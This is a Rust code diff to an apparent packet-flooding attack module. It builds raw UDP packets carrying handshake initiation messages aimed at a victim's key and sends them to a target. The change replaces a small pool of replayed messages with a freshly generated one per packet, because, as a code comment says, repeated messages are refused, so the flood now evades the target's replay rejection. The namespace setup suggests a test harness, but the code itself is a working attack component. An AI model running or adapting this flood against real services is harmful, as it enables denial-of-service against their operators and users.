@@ -71,15 +71,11 @@ impl Attack {
                 SockProtocol::Raw,
             )?)
         };
-        let mut noise = Noise::seeded(7);
-        let messages = (0..256)
-            .map(|_| noise_initiation(victim, &mut noise))
-            .collect();
         let mut flood = Flood {
             socket: netns.enter(raw).context("raw socket")?,
             target,
-            messages,
-            noise,
+            victim: *victim,
+            noise: Noise::seeded(7),
         };
         let mut hurried = false;
         Ok(Self::start(pace, move || {
@@ -225,7 +221,7 @@ impl Rubbish {
 struct Flood {
     socket: OwnedFd,
     target: SocketAddrV4,
-    messages: Vec<[u8; INITIATION_BYTES]>,
+    victim: [u8; 32],
     noise: Noise,
 }
 
@@ -247,8 +243,9 @@ impl Flood {
         packet[20..22].copy_from_slice(&[0x80 | r3, r4]);
         packet[22..24].copy_from_slice(&self.target.port().to_be_bytes());
         packet[24..26].copy_from_slice(&(length - 20).to_be_bytes());
-        let message = &self.messages[self.noise.below(self.messages.len())];
-        packet[Self::HEADERS..].copy_from_slice(message);
+        // Each another: one that was taken before is refused at once.
+        let message = noise_initiation(&self.victim, &mut self.noise);
+        packet[Self::HEADERS..].copy_from_slice(&message);
         let target = SockaddrIn::from(SocketAddrV4::new(*self.target.ip(), 0));
         let (fd, flags) = (self.socket.as_raw_fd(), MsgFlags::empty());
         sendmsg(fd, &[IoSlice::new(&packet)], &[], flags, Some(&target))?;
